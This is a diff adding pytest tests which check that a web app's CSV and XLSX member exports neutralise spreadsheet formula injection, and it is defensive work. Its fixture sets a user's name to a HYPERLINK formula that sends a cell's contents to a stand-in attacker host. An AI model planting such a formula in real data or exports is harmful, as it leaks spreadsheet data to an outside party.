@@ -217,3 +217,39 @@ class TestMemberList:
             "anna@alfa.test",
             *(f"{role}@alfa.test" for role in Role.values),
         }
+
+
+class TestExportsCannotCarryFormulas:
+    """A name someone typed must not become a formula in the coordinator's spreadsheet."""
+
+    FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
+
+    @pytest.fixture
+    def formula_member(self, world):
+        MembershipFactory.create(
+            user=UserFactory.create(email="sluw@alfa.test", full_name=self.FORMULA),
+            municipality=world.a,
+            role=Role.VIEWER,
+        )
+        return world
+
+    def test_csv_cells_that_look_like_formulas_are_quoted(self, formula_member, coordinator):
+        rows = csv_rows(coordinator.get(f"{MEMBERS_URL}?export=csv"))
+
+        row = next(row for row in rows if row[1] == "sluw@alfa.test")
+        assert row[0] == "'" + self.FORMULA
+        assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
+
+    def test_xlsx_cells_that_look_like_formulas_stay_text(self, formula_member, coordinator):
+        response = coordinator.get(f"{MEMBERS_URL}?export=xlsx")
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        assert sheet is not None
+
+        cell = next(row[0] for row in sheet.iter_rows() if row[1].value == "sluw@alfa.test")
+        assert cell.value == self.FORMULA
+        assert cell.data_type == "s"
+
+    def test_numbers_stay_numbers(self, departments):
+        rows = xlsx_rows(departments.client_for("viewer").get(f"{DEPARTMENTS_URL}?export=xlsx"))
+
+        assert {type(row[4]) for row in rows[1:]} == {int}
